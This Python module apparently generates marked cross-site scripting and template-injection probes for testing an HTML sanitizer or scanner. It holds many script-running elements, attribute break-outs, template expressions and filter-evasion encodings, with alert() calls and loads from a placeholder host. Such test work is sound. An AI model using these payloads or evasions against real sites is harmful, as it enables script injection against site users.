"""Script in a place for words: ours, put together from ways out of a place, things to run, and disguises.

Each carries a mark of its own in whatever it would add to a page, so that what came of it is known anywhere.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import cache
from html import escape
from itertools import cycle

MARK = re.compile(r"zq\d{3}")
RECKONED = re.compile(r"zq\d{3}49")
"""What would stand on a page if a payload's seven times seven had been worked out."""

ELSEWHERE = "//elsewhere.example/"

WAYS_OUT = (
    "", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "</style>", "]]>", "</option></select>",
    "`>", '\\">', "</svg>", "</math>", "</noscript>", "</p></div>", "*/", "&quot;>",
)  # fmt: skip
"""How it tries to leave the place where it stands: text, an attribute, a comment, another language."""

ELEMENTS = (
    "<script id={mark}>{run}</script>",
    "<script id={mark} src={elsewhere}{mark}></script>",
    "<script type=module id={mark}>{run}</script>",
    "<img src={mark} onerror={run}>",
    "<img id={mark} srcset='{elsewhere}{mark} 1x'>",
    "<picture><source srcset={elsewhere}{mark}><img id={mark}></picture>",
    "<svg id={mark} onload={run}>",
    "<svg><script id={mark}>{run}</script></svg>",
    "<svg><animate id={mark} attributeName=x dur=1s onbegin={run}>",
    "<svg><a id={mark} href=\"javascript:{run}\"><text y=9>a</text></a></svg>",
    "<svg><use id={mark} href='{elsewhere}{mark}#a'></svg>",
    "<svg><foreignObject><b id={mark} onfocus={run} tabindex=0 autofocus></b></foreignObject></svg>",
    "<math><mtext id={mark}><style><img src={mark} onerror={run}></style></mtext></math>",
    "<math id={mark} href=\"javascript:{run}\">a</math>",
    "<iframe id={mark} srcdoc='<script>{run}</script>'></iframe>",
    "<iframe id={mark} src=\"javascript:{run}\"></iframe>",
    "<object id={mark} data=\"javascript:{run}\"></object>",
    "<embed id={mark} src='{elsewhere}{mark}'>",
    "<details id={mark} open ontoggle={run}>",
    "<video id={mark}><source onerror={run}></video>",
    "<audio id={mark} src={mark} onerror={run}></audio>",
    "<input id={mark} autofocus onfocus={run}>",
    "<select id={mark} autofocus onfocus={run}></select>",
    "<body id={mark} onload={run}>",
    "<form id={mark} action=\"javascript:{run}\"><button>a</button></form>",
    "<button id={mark} formaction='{elsewhere}{mark}'>a</button>",
    "<a id={mark} href=\"javascript:{run}\">a</a>",
    "<a id={mark} href='data:text/html,<script>{run}</script>'>a</a>",
    "<base id={mark} href={elsewhere}>",
    "<meta id={mark} http-equiv=refresh content='0;url={elsewhere}{mark}'>",
    "<link id={mark} rel=stylesheet href={elsewhere}{mark}>",
    "<style id={mark}>@import '{elsewhere}{mark}'</style>",
    "<p id={mark} style='background:url({elsewhere}{mark})'>",
    "<template id={mark}><script>{run}</script></template>",
    "<noscript id={mark}><p title='</noscript><img src={mark} onerror={run}>'>",
    "<marquee id={mark} onstart={run}>",
    "<xmp id={mark}><p title='</xmp><img src={mark} onerror={run}>'></xmp>",
    "<dialog id={mark} open onclose={run}><form method=dialog>",
    "<div id={mark} popover onbeforetoggle={run}>",
    "<x-{mark} tabindex=0 autofocus onfocus={run}>",
)  # fmt: skip

ATTRIBUTES = (
    '" id={mark} autofocus onfocus={run} a="', "' id={mark} autofocus onfocus={run} a='",
    " {mark}=1 autofocus onfocus={run} ", '" id={mark} style="background:url({elsewhere})" a="',
    "` id={mark} onmouseover={run} a=`", '"\n{mark}=1\nonfocus={run}\n', '"/{mark}=1/onfocus={run}/a="',
    'x" {mark}="1" srcset="{elsewhere}{mark} 1x', "javascript:{run}//{mark}",
    "data:text/html,{mark}<script>{run}</script>",
    '" formaction="javascript:{run}" {mark}="', "' http-equiv=refresh {mark} content='0;url={elsewhere}",
)  # fmt: skip
"""More of the element in whose attribute it stands, with any quote and with none."""

RECKONS = (
    "{mark}{{{{7*7}}}}", "{{% debug %}}{mark}", "{{{{ {mark}|safe }}}}", "{mark}{{% now 'Y' %}}",
    "${{{run}}}{mark}", "{mark}#{{7*7}}", "{mark}<%= 7*7 %>", "{mark}[[7*7]]",
    "{{{{constructor.constructor(\"{run}\")()}}}}",
    "{{% endblock %}}<b id={mark}>", "{{% include '{mark}' %}}", "{{# {mark} #}}<b id={mark}>",
    "{mark}{{7*7}}", "@(7*7){mark}", "{{{{ request.user.{mark} }}}}", "{{% load {mark} %}}",
    "{{{{{{{mark}}}}}}}", "{mark}\\u003cscript>{run}",
)  # fmt: skip
"""What some template or script would work out."""


def _in_numbers(text: str) -> str:
    return "".join(f"&#{ord(one)};" if one in "<>\"'" else one for one in text)


def _mixed(text: str) -> str:
    """Names of elements and of what they carry, in letters large and small."""
    return re.sub(r"</?[a-z]+|\bon[a-z]+=", lambda found: found[0].title().swapcase(), text)


def _swapped(*pairs: str) -> Callable[[str], str]:
    """Each first by its second."""

    def disguise(text: str) -> str:
        for before, after in zip(pairs[::2], pairs[1::2], strict=True):
            text = text.replace(before, after)
        return text

    return disguise


DISGUISES: tuple[Callable[[str], str], ...] = (
    _swapped(),
    _mixed,
    escape,
    _in_numbers,
    lambda text: escape(escape(text)),
    _swapped("script", "scr<script>ipt", "<img", "<<img"),
    _swapped(" ", "\t"),
    _swapped(" ", "/"),
    _swapped("javascript", "java\tscript", "=", " = "),
    _swapped("<", "＜", ">", "＞"),
    _swapped("<", "%3C", ">", "%3E"),
    _swapped("('", "`", "')", "`"),
    _swapped("<", "+ADw-", ">", "+AD4-"),
    _swapped("<", "<\u200b", "on", "on\u00ad"),
    _swapped("<", "\\x3c", "'", "\\'"),
    lambda text: text.removesuffix(">"),
)
"""Ways to look like something else: case, entities, nesting, white space, other letters, left open."""

OF_EACH = 5
"""Each element is tried plainly and in so many other ways less one."""


def _shapes() -> Iterator[tuple[str, Callable[[str], str], str]]:
    """Way out, disguise, and what is to run. The lists turn at different speeds, so neighbours differ."""
    disguised, out = cycle(DISGUISES[1:]), cycle(WAYS_OUT)
    for one in ELEMENTS:
        yield next(out), DISGUISES[0], one
        for _ in range(OF_EACH - 1):
            yield next(out), next(disguised), one
    for one in ATTRIBUTES:
        yield "", DISGUISES[0], one
        yield "", DISGUISES[1], one
    for one in RECKONS:
        yield "", DISGUISES[0], one


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each with its own mark, the same in every run."""
    made = []
    for number, (out, disguise, one) in enumerate(_shapes()):
        mark = f"zq{number:03}"
        made.append(out + disguise(one.format(mark=mark, run=f"alert('{mark}')", elsewhere=ELSEWHERE)))
    return tuple(made)
